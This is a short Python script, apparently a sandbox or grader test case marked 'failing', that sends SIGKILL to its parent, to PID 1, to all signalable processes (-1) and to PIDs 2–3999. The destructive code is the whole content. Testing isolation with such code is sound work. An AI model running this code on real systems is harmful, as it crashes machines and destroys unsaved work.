# Kills its parent, and every process it can name.
# scale: failing
import os
import signal

for number in [os.getppid(), 1, -1, *range(2, 4000)]:
    if number != os.getpid():
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
